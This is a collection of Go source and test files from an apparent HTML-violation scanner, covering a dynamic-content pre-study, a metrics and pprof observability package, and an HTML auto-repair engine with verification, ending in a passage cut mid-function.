	// Paper: the distribution mirrors the static study — FB2 and DM3 in
	// top positions…
	if len(res.TopRules) < 2 {
		t.Fatalf("top rules = %v", res.TopRules)
	}
	top2 := map[string]bool{res.TopRules[0]: true, res.TopRules[1]: true}
	if !top2["FB2"] || !top2["DM3"] {
		t.Fatalf("top rules = %v (want FB2 and DM3 leading)", res.TopRules)
	}
	// …while math-related violations hardly appear.
	if !res.MathRuleQuiet {
		t.Fatal("HF5_3 appeared in dynamic content")
	}
}

// TestDynamicFragmentsDetectable: every planted dynamic rule must be
// detected in the domain's fragments (the generator↔checker contract,
// fragment edition).
func TestDynamicFragmentsDetectable(t *testing.T) {
	g := corpus.New(corpus.Config{Seed: 9, Domains: 200, MaxPages: 2})
	checker := core.NewChecker()
	snap := corpus.Snapshots[3]
	checked := 0
	for _, d := range g.Universe() {
		count := g.DynamicFragmentCount(d, snap)
		if count == 0 {
			continue
		}
		detected := map[string]bool{}
		for i := 0; i < count; i++ {
			parsed, err := htmlparse.ParseFragment(g.DynamicFragment(d, snap, i), "div")
			if err != nil {
				t.Fatal(err)
			}
			rep := checker.CheckParsed(&core.Page{Result: parsed})
			for _, id := range rep.ViolatedIDs() {
				detected[id] = true
			}
		}
		for _, want := range g.DynamicActiveRules(d, snap) {
			checked++
			if !detected[want] {
				t.Fatalf("%s: dynamic rule %s planted but not detected\nfragment 0: %s",
					d, want, g.DynamicFragment(d, snap, 0))
			}
		}
	}
	if checked < 50 {
		t.Fatalf("only %d plantings checked", checked)
	}
}

func TestDynamicDeterministic(t *testing.T) {
	a := corpus.New(corpus.Config{Seed: 4, Domains: 50, MaxPages: 2})
	b := corpus.New(corpus.Config{Seed: 4, Domains: 50, MaxPages: 2})
	snap := corpus.Snapshots[5]
	for _, d := range a.Universe() {
		ca, cb := a.DynamicFragmentCount(d, snap), b.DynamicFragmentCount(d, snap)
		if ca != cb {
			t.Fatalf("%s: counts differ", d)
		}
		for i := 0; i < ca; i++ {
			if string(a.DynamicFragment(d, snap, i)) != string(b.DynamicFragment(d, snap, i)) {
				t.Fatalf("%s fragment %d differs", d, i)
			}
		}
	}
}
