// Package prestudy implements the paper's §5.1 dynamic-content pre-study:
// Common Crawl only archives static HTML, so the paper separately
// collected the HTML fragments that the top 1K sites load at runtime and
// checked those. Here the fragments come from the corpus generator and are
// checked with the fragment parsing algorithm (innerHTML semantics — how
// a framework would actually insert them).
package prestudy

import (
	"sort"

	"github.com/hvscan/hvscan/internal/core"
	"github.com/hvscan/hvscan/internal/corpus"
	"github.com/hvscan/hvscan/internal/htmlparse"
)

// DynamicResult summarizes the pre-study.
type DynamicResult struct {
	Sites         int // sites examined (top N with any dynamic content)
	SitesWithViol int
	ViolatingPct  float64
	Fragments     int
	RuleDomains   map[string]int // rule -> sites exhibiting it
	TopRules      []string       // rules by descending prevalence
	MathRuleQuiet bool           // HF5_3 (math) absent, as in the paper
}

// RunDynamic examines the runtime fragments of the top n universe domains
// in the given snapshot.
func RunDynamic(g *corpus.Generator, snap corpus.Snapshot, n int) (*DynamicResult, error) {
	checker := core.NewChecker()
	res := &DynamicResult{RuleDomains: map[string]int{}}
	domains := g.Universe()
	if n > len(domains) {
		n = len(domains)
	}
	for _, domain := range domains[:n] {
		count := g.DynamicFragmentCount(domain, snap)
		if count == 0 {
			continue
		}
		res.Sites++
		siteRules := map[string]bool{}
		for i := 0; i < count; i++ {
			frag := g.DynamicFragment(domain, snap, i)
			parsed, err := htmlparse.ParseFragmentReuse(frag, "div")
			if err != nil {
				return nil, err
			}
			rep := checker.CheckParsed(&core.Page{Result: parsed})
			res.Fragments++
			for _, id := range rep.ViolatedIDs() {
				siteRules[id] = true
			}
		}
		if len(siteRules) > 0 {
			res.SitesWithViol++
		}
		for id := range siteRules {
			res.RuleDomains[id]++
		}
	}
	if res.Sites > 0 {
		res.ViolatingPct = 100 * float64(res.SitesWithViol) / float64(res.Sites)
	}
	for id := range res.RuleDomains {
		res.TopRules = append(res.TopRules, id)
	}
	sort.Slice(res.TopRules, func(i, j int) bool {
		if res.RuleDomains[res.TopRules[i]] != res.RuleDomains[res.TopRules[j]] {
			return res.RuleDomains[res.TopRules[i]] > res.RuleDomains[res.TopRules[j]]
		}
		return res.TopRules[i] < res.TopRules[j]
	})
	res.MathRuleQuiet = res.RuleDomains["HF5_3"] == 0
	return res, nil
}
