package obs

import (
	"fmt"
	"regexp"
)

// The Vec constructors register one series per label value at
// construction time, keeping the dynamic fmt.Sprintf inside this
// package: call sites pass a literal base name and a fixed value set,
// so the full series list stays greppable and hvlint's obsnames
// analyzer can verify every registration statically.

var (
	vecBaseRE  = regexp.MustCompile(`^[a-z][a-z0-9]*(_[a-z0-9]+)+$`)
	vecLabelRE = regexp.MustCompile(`^[a-z][a-z0-9_]*$`)
)

// vecName builds the inline-labelled series name for one label value,
// panicking on a malformed base or label — a construction-time
// programmer error, never a runtime condition.
func vecName(base, label, value string) string {
	if !vecBaseRE.MatchString(base) {
		panic(fmt.Sprintf("obs: vec base name %q is not prefixed snake_case", base))
	}
	if !vecLabelRE.MatchString(label) {
		panic(fmt.Sprintf("obs: vec label name %q is not snake_case", label))
	}
	return fmt.Sprintf("%s{%s=%q}", base, label, value)
}

// CounterVec registers one counter per label value under
// base{label="value"} and returns them keyed by value. All series of
// the family are created up front, so exposition shows zero-valued
// series immediately and no registration happens on the hot path.
func (r *Registry) CounterVec(base, label string, values ...string) map[string]*Counter {
	out := make(map[string]*Counter, len(values))
	for _, v := range values {
		out[v] = r.Counter(vecName(base, label, v))
	}
	return out
}

// HistogramVec registers one histogram per label value under
// base{label="value"}, all sharing the same bucket bounds, and returns
// them keyed by value.
func (r *Registry) HistogramVec(base, label string, bounds []float64, values ...string) map[string]*Histogram {
	out := make(map[string]*Histogram, len(values))
	for _, v := range values {
		out[v] = r.Histogram(vecName(base, label, v), bounds)
	}
	return out
}
