package obs

import (
	"io"
	"math"
	"net/http"
	"strings"
	"sync"
	"testing"
)

func TestCounterConcurrent(t *testing.T) {
	var c Counter
	const workers, each = 16, 10000
	var wg sync.WaitGroup
	for w := 0; w < workers; w++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for i := 0; i < each; i++ {
				c.Inc()
			}
			c.Add(5)
		}()
	}
	wg.Wait()
	if got, want := c.Value(), uint64(workers*(each+5)); got != want {
		t.Fatalf("counter = %d, want %d", got, want)
	}
}

func TestGaugeConcurrent(t *testing.T) {
	var g Gauge
	const workers, each = 8, 5000
	var wg sync.WaitGroup
	for w := 0; w < workers; w++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for i := 0; i < each; i++ {
				g.Inc()
				g.Dec()
			}
			g.Add(3)
		}()
	}
	wg.Wait()
	if got, want := g.Value(), int64(workers*3); got != want {
		t.Fatalf("gauge = %d, want %d", got, want)
	}
	g.Set(-7)
	if g.Value() != -7 {
		t.Fatalf("Set: got %d", g.Value())
	}
}

func TestHistogramConcurrent(t *testing.T) {
	h := NewHistogram([]float64{1, 2, 4, 8})
	const workers, each = 8, 4000
	var wg sync.WaitGroup
	for w := 0; w < workers; w++ {
		wg.Add(1)
		go func(w int) {
			defer wg.Done()
			for i := 0; i < each; i++ {
				h.Observe(float64(w % 10)) // 0..9, some into +Inf
			}
		}(w)
	}
	wg.Wait()
	if got, want := h.Count(), uint64(workers*each); got != want {
		t.Fatalf("count = %d, want %d", got, want)
	}
	var wantSum float64
	for w := 0; w < workers; w++ {
		wantSum += float64(w%10) * each
	}
	if math.Abs(h.Sum()-wantSum) > 1e-6 {
		t.Fatalf("sum = %v, want %v", h.Sum(), wantSum)
	}
	_, cumulative, total := h.Buckets()
	if cumulative[len(cumulative)-1] > total {
		t.Fatalf("cumulative %v exceeds total %d", cumulative, total)
	}
}

func TestHistogramQuantile(t *testing.T) {
	// 100 observations of 1..100 into decade buckets: every bucket holds
	// exactly 10, so interpolated quantiles are exact.
	h := NewHistogram([]float64{10, 20, 30, 40, 50, 60, 70, 80, 90, 100})
	for v := 1; v <= 100; v++ {
		h.Observe(float64(v))
	}
	for _, tc := range []struct{ q, want float64 }{
		{0.5, 50}, {0.95, 95}, {0.99, 99}, {1.0, 100}, {0.1, 10},
	} {
		if got := h.Quantile(tc.q); math.Abs(got-tc.want) > 1e-9 {
			t.Errorf("Quantile(%v) = %v, want %v", tc.q, got, tc.want)
		}
	}
	if got := h.Mean(); math.Abs(got-50.5) > 1e-9 {
		t.Errorf("Mean = %v, want 50.5", got)
	}
}

func TestHistogramQuantileEdges(t *testing.T) {
	h := NewHistogram([]float64{1, 2})
	if got := h.Quantile(0.5); got != 0 {
		t.Fatalf("empty histogram quantile = %v, want 0", got)
	}
	// Everything in the +Inf bucket clamps to the last finite bound.
	h.Observe(100)
	h.Observe(200)
	if got := h.Quantile(0.5); got != 2 {
		t.Fatalf("overflow quantile = %v, want clamp to 2", got)
	}
	// Out-of-range q is clamped, not an error.
	if got := h.Quantile(7); got != 2 {
		t.Fatalf("Quantile(7) = %v, want 2", got)
	}
}

func TestHistogramBadBoundsPanic(t *testing.T) {
	for _, bounds := range [][]float64{nil, {}, {2, 1}, {1, 1}} {
		func() {
			defer func() {
				if recover() == nil {
					t.Errorf("NewHistogram(%v) did not panic", bounds)
				}
			}()
			NewHistogram(bounds)
		}()
	}
}

func TestRegistrySharesByName(t *testing.T) {
	r := NewRegistry()
	a := r.Counter("x_total")
	b := r.Counter("x_total")
	if a != b {
		t.Fatal("same name returned different counters")
	}
	h1 := r.Histogram("h_seconds", DurationBuckets)
	h2 := r.Histogram("h_seconds", SizeBuckets) // bounds of first registration win
	if h1 != h2 {
		t.Fatal("same name returned different histograms")
	}
	func() {
		defer func() {
			if recover() == nil {
				t.Error("kind mismatch did not panic")
			}
		}()
		r.Gauge("x_total")
	}()
}

func TestRegistryConcurrentRegistration(t *testing.T) {
	r := NewRegistry()
	var wg sync.WaitGroup
	for w := 0; w < 8; w++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for i := 0; i < 1000; i++ {
				r.Counter("shared_total").Inc()
			}
		}()
	}
	wg.Wait()
	if got := r.Counter("shared_total").Value(); got != 8000 {
		t.Fatalf("shared counter = %d, want 8000", got)
	}
}

func TestWriteTextExposition(t *testing.T) {
	r := NewRegistry()
	r.Counter("pages_total").Add(42)
	r.Counter(`rule_hits_total{rule="FB2"}`).Add(7)
	r.Counter(`rule_hits_total{rule="HF4"}`).Add(3)
	r.Gauge("in_flight").Set(5)
	h := r.Histogram(`stage_seconds{stage="fetch"}`, []float64{0.1, 1})
	h.Observe(0.05)
	h.Observe(0.5)
	h.Observe(10)

	var b strings.Builder
	if err := r.WriteText(&b); err != nil {
		t.Fatal(err)
	}
	out := b.String()
	for _, want := range []string{
		"# TYPE pages_total counter\npages_total 42\n",
		"# TYPE in_flight gauge\nin_flight 5\n",
		`rule_hits_total{rule="FB2"} 7`,
		`rule_hits_total{rule="HF4"} 3`,
		"# TYPE stage_seconds histogram",
		`stage_seconds_bucket{stage="fetch",le="0.1"} 1`,
		`stage_seconds_bucket{stage="fetch",le="1"} 2`,
		`stage_seconds_bucket{stage="fetch",le="+Inf"} 3`,
		`stage_seconds_count{stage="fetch"} 3`,
	} {
		if !strings.Contains(out, want) {
			t.Errorf("exposition missing %q in:\n%s", want, out)
		}
	}
	// One TYPE line per family even with per-label series.
	if got := strings.Count(out, "# TYPE rule_hits_total counter"); got != 1 {
		t.Errorf("rule_hits_total TYPE lines = %d, want 1", got)
	}
}

func TestServerServesMetricsAndPprof(t *testing.T) {
	r := NewRegistry()
	r.Counter("up_total").Inc()
	srv, err := StartServer("127.0.0.1:0", r)
	if err != nil {
		t.Fatal(err)
	}
	defer srv.Close()

	get := func(path string) string {
		t.Helper()
		resp, err := http.Get("http://" + srv.Addr + path)
		if err != nil {
			t.Fatalf("GET %s: %v", path, err)
		}
		defer resp.Body.Close()
		if resp.StatusCode != http.StatusOK {
			t.Fatalf("GET %s: %s", path, resp.Status)
		}
		body, err := io.ReadAll(resp.Body)
		if err != nil {
			t.Fatal(err)
		}
		return string(body)
	}
	if body := get("/metrics"); !strings.Contains(body, "up_total 1") {
		t.Errorf("/metrics missing counter:\n%s", body)
	}
	if body := get("/debug/pprof/"); !strings.Contains(body, "goroutine") {
		t.Errorf("/debug/pprof/ index looks wrong:\n%.200s", body)
	}
}
