package obs

import (
	"bufio"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/pprof"
	"strconv"
	"time"
)

// WriteText renders every metric in the Prometheus text exposition format
// (version 0.0.4), sorted by name, with one # TYPE line per metric family.
func (r *Registry) WriteText(w io.Writer) error {
	bw := bufio.NewWriter(w)
	seenType := make(map[string]bool)
	r.each(func(name string, m any) {
		base, labels := splitName(name)
		switch v := m.(type) {
		case *Counter:
			writeType(bw, seenType, base, "counter")
			fmt.Fprintf(bw, "%s %d\n", name, v.Value())
		case *Gauge:
			writeType(bw, seenType, base, "gauge")
			fmt.Fprintf(bw, "%s %d\n", name, v.Value())
		case *Histogram:
			writeType(bw, seenType, base, "histogram")
			bounds, cumulative, total := v.Buckets()
			for i, ub := range bounds {
				fmt.Fprintf(bw, "%s_bucket{%sle=%q} %d\n",
					base, labelPrefix(labels), formatBound(ub), cumulative[i])
			}
			fmt.Fprintf(bw, "%s_bucket{%sle=\"+Inf\"} %d\n", base, labelPrefix(labels), total)
			fmt.Fprintf(bw, "%s_sum%s %v\n", base, labelSuffix(labels), v.Sum())
			fmt.Fprintf(bw, "%s_count%s %d\n", base, labelSuffix(labels), total)
		}
	})
	return bw.Flush()
}

func writeType(w *bufio.Writer, seen map[string]bool, base, kind string) {
	if !seen[base] {
		seen[base] = true
		fmt.Fprintf(w, "# TYPE %s %s\n", base, kind)
	}
}

// labelPrefix renders inline labels for a bucket line that also carries
// le= ("" or `stage="fetch",`).
func labelPrefix(labels string) string {
	if labels == "" {
		return ""
	}
	return labels + ","
}

// labelSuffix renders inline labels for a _sum/_count line ("" or
// `{stage="fetch"}`).
func labelSuffix(labels string) string {
	if labels == "" {
		return ""
	}
	return "{" + labels + "}"
}

// formatBound renders a bucket bound the way Prometheus does: shortest
// representation that round-trips.
func formatBound(b float64) string {
	return strconv.FormatFloat(b, 'g', -1, 64)
}

// Handler serves the registry as a text exposition endpoint.
func (r *Registry) Handler() http.Handler {
	return http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "text/plain; version=0.0.4; charset=utf-8")
		_ = r.WriteText(w)
	})
}

// NewDebugMux builds the observability endpoint set: /metrics for the
// registry plus the full net/http/pprof suite under /debug/pprof/. The
// pprof handlers are wired explicitly rather than via the package's
// DefaultServeMux side-effect registration, so importing obs never
// pollutes a caller's default mux.
func NewDebugMux(r *Registry) *http.ServeMux {
	mux := http.NewServeMux()
	mux.Handle("/metrics", r.Handler())
	mux.HandleFunc("/debug/pprof/", pprof.Index)
	mux.HandleFunc("/debug/pprof/cmdline", pprof.Cmdline)
	mux.HandleFunc("/debug/pprof/profile", pprof.Profile)
	mux.HandleFunc("/debug/pprof/symbol", pprof.Symbol)
	mux.HandleFunc("/debug/pprof/trace", pprof.Trace)
	return mux
}

// Server is a running metrics/pprof HTTP listener.
type Server struct {
	// Addr is the bound address (resolves ":0" to the real port).
	Addr string
	srv  *http.Server
}

// StartServer listens on addr and serves the debug mux in the background.
// Pass ":0" to bind an ephemeral port; the chosen address is in
// Server.Addr. The caller owns the returned server and should Close it.
func StartServer(addr string, r *Registry) (*Server, error) {
	ln, err := net.Listen("tcp", addr)
	if err != nil {
		return nil, fmt.Errorf("obs: listen %s: %w", addr, err)
	}
	srv := &http.Server{
		Handler:           NewDebugMux(r),
		ReadHeaderTimeout: 10 * time.Second,
	}
	go func() {
		// ErrServerClosed after Close is the normal shutdown path; any
		// other serve error has nowhere useful to go from a background
		// metrics listener.
		_ = srv.Serve(ln)
	}()
	return &Server{Addr: ln.Addr().String(), srv: srv}, nil
}

// Close stops the listener.
func (s *Server) Close() error { return s.srv.Close() }
