// Package obs is the dependency-free observability core of the scan
// pipeline: atomic counters, gauges, and fixed-bucket histograms behind a
// named registry, with Prometheus-style text exposition and pprof wiring
// (expo.go). Every metric is safe for concurrent use without locks on the
// hot path — one atomic add per observation — so instrumenting the
// crawler costs nanoseconds per page, not microseconds.
//
// Metric names follow the Prometheus convention and may carry a fixed
// label set inline: "crawler_stage_seconds{stage=\"fetch\"}" registers a
// distinct time series per stage while the exposition handler still
// groups them under one # TYPE family.
package obs

import (
	"fmt"
	"math"
	"sort"
	"strings"
	"sync"
	"sync/atomic"
	"time"
)

// Counter is a monotonically increasing counter.
type Counter struct {
	v atomic.Uint64
}

// Inc adds one.
func (c *Counter) Inc() { c.v.Add(1) }

// Add adds n.
func (c *Counter) Add(n uint64) { c.v.Add(n) }

// Value returns the current count.
func (c *Counter) Value() uint64 { return c.v.Load() }

// Gauge is a value that can go up and down (e.g. in-flight requests).
type Gauge struct {
	v atomic.Int64
}

// Set replaces the value.
func (g *Gauge) Set(n int64) { g.v.Store(n) }

// Add adds n (negative to subtract).
func (g *Gauge) Add(n int64) { g.v.Add(n) }

// Inc adds one.
func (g *Gauge) Inc() { g.v.Add(1) }

// Dec subtracts one.
func (g *Gauge) Dec() { g.v.Add(-1) }

// Value returns the current value.
func (g *Gauge) Value() int64 { return g.v.Load() }

// atomicFloat is a float64 updated via CAS on its bit pattern.
type atomicFloat struct {
	bits atomic.Uint64
}

func (f *atomicFloat) Add(v float64) {
	for {
		old := f.bits.Load()
		if f.bits.CompareAndSwap(old, math.Float64bits(math.Float64frombits(old)+v)) {
			return
		}
	}
}

func (f *atomicFloat) Value() float64 { return math.Float64frombits(f.bits.Load()) }

// Histogram counts observations into fixed buckets (cumulative-style on
// exposition, per-bucket internally). Bounds are upper bucket edges in
// ascending order; observations above the last bound land in an implicit
// +Inf bucket. Observations must be non-negative (latencies, sizes).
type Histogram struct {
	bounds []float64
	counts []atomic.Uint64 // len(bounds)+1; last is the +Inf bucket
	count  atomic.Uint64
	sum    atomicFloat
}

// NewHistogram builds a histogram over the given ascending upper bounds.
// It panics on an empty or unsorted bound list — a construction-time
// programmer error, never a runtime condition.
func NewHistogram(bounds []float64) *Histogram {
	if len(bounds) == 0 {
		panic("obs: histogram needs at least one bucket bound")
	}
	for i := 1; i < len(bounds); i++ {
		if bounds[i] <= bounds[i-1] {
			panic(fmt.Sprintf("obs: histogram bounds not ascending at %d: %v", i, bounds))
		}
	}
	return &Histogram{
		bounds: append([]float64(nil), bounds...),
		counts: make([]atomic.Uint64, len(bounds)+1),
	}
}

// Observe records one value.
func (h *Histogram) Observe(v float64) {
	i := sort.SearchFloat64s(h.bounds, v) // first bound >= v
	h.counts[i].Add(1)
	h.count.Add(1)
	h.sum.Add(v)
}

// ObserveSince records the seconds elapsed since t0.
func (h *Histogram) ObserveSince(t0 time.Time) { h.Observe(time.Since(t0).Seconds()) }

// Count returns the number of observations.
func (h *Histogram) Count() uint64 { return h.count.Load() }

// Sum returns the sum of all observed values.
func (h *Histogram) Sum() float64 { return h.sum.Value() }

// Mean returns the average observation, or 0 with no observations.
func (h *Histogram) Mean() float64 {
	n := h.Count()
	if n == 0 {
		return 0
	}
	return h.Sum() / float64(n)
}

// Quantile estimates the q-quantile (0 <= q <= 1) by linear interpolation
// inside the bucket holding the target rank, the same estimate Prometheus'
// histogram_quantile computes. Values in the +Inf bucket clamp to the last
// finite bound. Returns 0 with no observations.
func (h *Histogram) Quantile(q float64) float64 {
	total := h.count.Load()
	if total == 0 {
		return 0
	}
	q = math.Min(math.Max(q, 0), 1)
	rank := q * float64(total)
	cum, lower := 0.0, 0.0
	for i, upper := range h.bounds {
		c := float64(h.counts[i].Load())
		if c > 0 && cum+c >= rank {
			return lower + (rank-cum)/c*(upper-lower)
		}
		cum += c
		lower = upper
	}
	return h.bounds[len(h.bounds)-1]
}

// Buckets returns the bucket bounds and the cumulative count at each
// bound, plus the total (the +Inf count). The two slices are snapshots.
func (h *Histogram) Buckets() (bounds []float64, cumulative []uint64, total uint64) {
	bounds = h.bounds
	cumulative = make([]uint64, len(h.bounds))
	var cum uint64
	for i := range h.bounds {
		cum += h.counts[i].Load()
		cumulative[i] = cum
	}
	return bounds, cumulative, h.count.Load()
}

// Default bucket sets for the two quantities the pipeline measures.
var (
	// DurationBuckets spans 100µs to 10s in roughly 1-2.5-5 steps — wide
	// enough for in-process synthetic reads and cross-network WARC fetches.
	DurationBuckets = []float64{
		0.0001, 0.00025, 0.0005, 0.001, 0.0025, 0.005,
		0.01, 0.025, 0.05, 0.1, 0.25, 0.5, 1, 2.5, 5, 10,
	}
	// SizeBuckets spans 256 B to 4 MiB in powers of four (Common Crawl
	// truncates records at 1 MiB; the pipeline caps documents at 2 MiB).
	SizeBuckets = []float64{256, 1 << 10, 4 << 10, 16 << 10, 64 << 10, 256 << 10, 1 << 20, 4 << 20}
)

// Registry is a named collection of metrics. Registration (the cold path)
// takes a lock; the returned metric objects are lock-free. Registering the
// same name twice returns the same object, so independent components can
// share a series; a name registered as two different kinds panics.
type Registry struct {
	mu      sync.Mutex
	metrics map[string]any
	order   []string
}

// NewRegistry returns an empty registry.
func NewRegistry() *Registry {
	return &Registry{metrics: make(map[string]any)}
}

func (r *Registry) register(name string, make func() any) any {
	r.mu.Lock()
	defer r.mu.Unlock()
	if m, ok := r.metrics[name]; ok {
		return m
	}
	m := make()
	r.metrics[name] = m
	r.order = append(r.order, name)
	return m
}

// Counter returns the counter registered under name, creating it if new.
func (r *Registry) Counter(name string) *Counter {
	m := r.register(name, func() any { return new(Counter) })
	c, ok := m.(*Counter)
	if !ok {
		panic(fmt.Sprintf("obs: %q already registered as %T, not a counter", name, m))
	}
	return c
}

// Gauge returns the gauge registered under name, creating it if new.
func (r *Registry) Gauge(name string) *Gauge {
	m := r.register(name, func() any { return new(Gauge) })
	g, ok := m.(*Gauge)
	if !ok {
		panic(fmt.Sprintf("obs: %q already registered as %T, not a gauge", name, m))
	}
	return g
}

// Histogram returns the histogram registered under name, creating it with
// the given bounds if new (existing registrations keep their bounds).
func (r *Registry) Histogram(name string, bounds []float64) *Histogram {
	m := r.register(name, func() any { return NewHistogram(bounds) })
	h, ok := m.(*Histogram)
	if !ok {
		panic(fmt.Sprintf("obs: %q already registered as %T, not a histogram", name, m))
	}
	return h
}

// each visits all metrics sorted by name.
func (r *Registry) each(f func(name string, m any)) {
	r.mu.Lock()
	names := append([]string(nil), r.order...)
	metrics := make(map[string]any, len(names))
	for _, n := range names {
		metrics[n] = r.metrics[n]
	}
	r.mu.Unlock()
	sort.Strings(names)
	for _, n := range names {
		f(n, metrics[n])
	}
}

// splitName separates an inline label set from the metric base name:
// `foo_total{rule="FB2"}` -> ("foo_total", `rule="FB2"`).
func splitName(name string) (base, labels string) {
	i := strings.IndexByte(name, '{')
	if i < 0 {
		return name, ""
	}
	return name[:i], strings.TrimSuffix(name[i+1:], "}")
}
