// Package autofix implements the validated repair the paper's §4.4 argues
// for. Each fixable rule family has a registered Strategy that edits the
// parse tree (or relies on serialization normalizing the syntax), and
// every repair is verified by re-parsing the serialized output: the
// targeted rule must be gone and no rule of the full catalogue may have
// gained findings. Repair runs a bounded fix→recheck convergence loop —
// serialization can itself surface latent violations (an entity-encoded
// newline in a URL attribute decodes, renders literally, and only then
// trips DE3_1) — and a document that does not verify within the bound is
// reported Unfixable with the original bytes returned untouched. The
// engine never emits unverified output.
//
// The machine-repairable set is the paper's FB/DM classification
// (FixableRuleIDs) plus two DE families where the intent is recoverable
// without human judgment: DE3_1 and DE3_3 dangling-markup values are
// truncated at the first newline, exactly the mitigation Chromium applies
// at resource-load time. HF and the remaining DE rules stay out of scope:
// fixing them needs the developer's intent.
package autofix

import (
	"fmt"
	"sort"

	"github.com/hvscan/hvscan/internal/core"
	"github.com/hvscan/hvscan/internal/htmlparse"
)

// Fix is one repair action taken.
type Fix struct {
	RuleID      string
	Description string
	Pos         htmlparse.Position
}

func (f Fix) String() string {
	return fmt.Sprintf("%s: %s", f.RuleID, f.Description)
}

// Unfixable is one rule the engine could not verifiably repair, with the
// reason verification failed.
type Unfixable struct {
	RuleID string
	Reason string
}

func (u Unfixable) String() string {
	return fmt.Sprintf("%s: %s", u.RuleID, u.Reason)
}

// Outcome classifies a whole-document repair.
type Outcome string

const (
	// OutcomeClean: the input had no violations at all; Output is the
	// input, byte for byte.
	OutcomeClean Outcome = "clean"
	// OutcomeFixed: the repair loop ran and the verified output has zero
	// violations of any catalogue rule.
	OutcomeFixed Outcome = "fixed"
	// OutcomePartial: the output verified (no strategy-covered rule
	// remains, nothing got worse) but violations outside the
	// machine-repairable set persist and need a human.
	OutcomePartial Outcome = "partial"
	// OutcomeUnfixable: verification failed; Output is the original
	// input and Applied is empty — no unverified bytes are emitted.
	OutcomeUnfixable Outcome = "unfixable"
)

// Outcomes lists every Outcome value (metric label domain).
func Outcomes() []string {
	return []string{string(OutcomeClean), string(OutcomeFixed),
		string(OutcomePartial), string(OutcomeUnfixable)}
}

// Result is the outcome of Repair.
type Result struct {
	// Output is the repaired document. On OutcomeUnfixable (and on
	// OutcomeClean) it is the original input, unchanged.
	Output []byte
	// Applied lists the verified repairs, in application order. Empty
	// when verification failed: fixes from a discarded attempt are not
	// reported as applied.
	Applied []Fix
	// Unfixable lists the rules verification could not clear, with
	// reasons. Non-empty exactly when the outcome is OutcomeUnfixable.
	Unfixable []Unfixable
	// RemainingHits is the per-rule violation count of Output (for
	// OutcomeUnfixable: of the original input).
	RemainingHits map[string]int
	// Rounds is how many fix→recheck rounds ran.
	Rounds int
}

// Outcome classifies the result. A repair that ran rounds and ended with
// zero violations is OutcomeFixed even when Applied is empty: a violating
// token the tree builder dropped (a nested form, say) leaves nothing for
// a strategy to edit, yet serialization removes it and verification
// proves the removal.
func (r *Result) Outcome() Outcome {
	switch {
	case len(r.Unfixable) > 0:
		return OutcomeUnfixable
	case totalHits(r.RemainingHits) > 0:
		return OutcomePartial
	case r.Rounds == 0:
		return OutcomeClean
	default:
		return OutcomeFixed
	}
}

func totalHits(hits map[string]int) int {
	n := 0
	for _, v := range hits {
		n += v
	}
	return n
}

// FixableRuleIDs returns the paper's auto-fixable classification (§4.4):
// the FB and DM groups, straight from the core catalogue.
func FixableRuleIDs() []string {
	var out []string
	for _, r := range core.Rules() {
		if r.AutoFixable {
			out = append(out, r.ID)
		}
	}
	return out
}

// RemainingIDs returns the rule IDs still violated in the result's
// output, sorted.
func (r *Result) RemainingIDs() []string {
	var out []string
	for id, n := range r.RemainingHits {
		if n > 0 {
			out = append(out, id)
		}
	}
	sort.Strings(out)
	return out
}
