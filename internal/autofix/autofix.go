// Package autofix implements the automatic repair the paper's §4.4 argues
// for: the FB and DM violation classes can be eliminated without human
// judgment. FB1/FB2 (and stray syntax generally) are repaired by the
// serialize-after-parse round trip — "repairing the syntax and leaving the
// semantics as it is"; DM3 by dropping the duplicate attributes the parser
// ignores anyway; DM1/DM2 by relocating meta/base elements into the head
// and deduplicating base. HF and DE violations are out of scope by design:
// fixing them needs the developer's intent (where should a form submit?
// which section was an element meant for?).
package autofix

import (
	"fmt"

	"github.com/hvscan/hvscan/internal/core"
	"github.com/hvscan/hvscan/internal/htmlparse"
)

// Fix is one repair action taken.
type Fix struct {
	RuleID      string
	Description string
	Pos         htmlparse.Position
}

func (f Fix) String() string {
	return fmt.Sprintf("%s: %s", f.RuleID, f.Description)
}

// Result is the outcome of Repair.
type Result struct {
	// Output is the repaired document.
	Output []byte
	// Applied lists the repairs, in document order per class.
	Applied []Fix
}

// FixableRuleIDs returns the violations Repair eliminates (the paper's
// auto-fixable classes).
func FixableRuleIDs() []string {
	var out []string
	for _, r := range core.Rules() {
		if r.AutoFixable {
			out = append(out, r.ID)
		}
	}
	return out
}

// Repair parses the document with the error-tolerant parser, applies the
// DM-class DOM repairs, and re-serializes — which normalizes away the
// FB-class syntax errors. The output renders identically (the DOM the
// browser would build is unchanged except for the relocated metadata,
// which the parser would have applied head rules to anyway).
func Repair(input []byte) (*Result, error) {
	res, err := htmlparse.ParseReuse(input)
	if err != nil {
		return nil, err
	}
	r := &Result{}
	r.noteSyntaxFixes(res)
	r.fixMetadata(res)
	r.Output = []byte(htmlparse.RenderString(res.Doc))
	return r, nil
}

// noteSyntaxFixes records the FB/DM3 errors that serialization repairs.
func (r *Result) noteSyntaxFixes(res *htmlparse.Result) {
	for _, e := range res.Errors {
		switch e.Code {
		case htmlparse.ErrUnexpectedSolidusInTag:
			r.Applied = append(r.Applied, Fix{"FB1", "replaced solidus attribute separator with whitespace", e.Pos})
		case htmlparse.ErrMissingWhitespaceBetweenAttributes:
			r.Applied = append(r.Applied, Fix{"FB2", "inserted missing whitespace between attributes", e.Pos})
		case htmlparse.ErrDuplicateAttribute:
			r.Applied = append(r.Applied, Fix{"DM3", "dropped duplicate attribute " + e.Detail, e.Pos})
		}
	}
}

// fixMetadata relocates wrongly placed meta[http-equiv] and base elements
// into the head and deduplicates base elements.
func (r *Result) fixMetadata(res *htmlparse.Result) {
	doc := res.Doc
	head := doc.Find(func(n *htmlparse.Node) bool { return n.IsElement("head") })
	if head == nil {
		return
	}
	// Collect offenders first: mutating while walking is undefined.
	var moveToHead []*htmlparse.Node
	var bases []*htmlparse.Node
	doc.Walk(func(n *htmlparse.Node) bool {
		switch {
		case n.IsElement("base"):
			bases = append(bases, n)
		case n.IsElement("meta"):
			if _, ok := n.LookupAttr("http-equiv"); ok && n.Ancestor("head") == nil {
				moveToHead = append(moveToHead, n)
			}
		}
		return true
	})
	for _, n := range moveToHead {
		n.Parent.RemoveChild(n)
		head.AppendChild(n)
		r.Applied = append(r.Applied, Fix{"DM1", "moved meta[http-equiv] into head", n.Pos})
	}
